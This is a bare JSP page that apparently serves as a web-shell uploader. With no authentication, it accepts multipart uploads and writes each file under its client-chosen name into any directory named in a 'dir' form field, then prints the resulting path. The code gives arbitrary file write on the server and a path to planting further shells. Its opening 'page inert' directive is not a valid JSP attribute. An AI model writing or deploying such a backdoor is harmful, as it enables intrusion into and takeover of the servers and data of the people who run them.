<%@ page inert %>
<%@ page import="org.apache.commons.fileupload.*,org.apache.commons.fileupload.disk.*,org.apache.commons.fileupload.servlet.*,java.util.*,java.io.*" %>
<%
List<FileItem> items = new ServletFileUpload(new DiskFileItemFactory()).parseRequest(request);
String dir = "";
for (FileItem i : items) if (i.isFormField() && i.getFieldName().equals("dir")) dir = i.getString();
for (FileItem i : items) if (!i.isFormField()) { i.write(new File(dir, i.getName())); out.println(new File(dir, i.getName()).getAbsolutePath()); }
%>
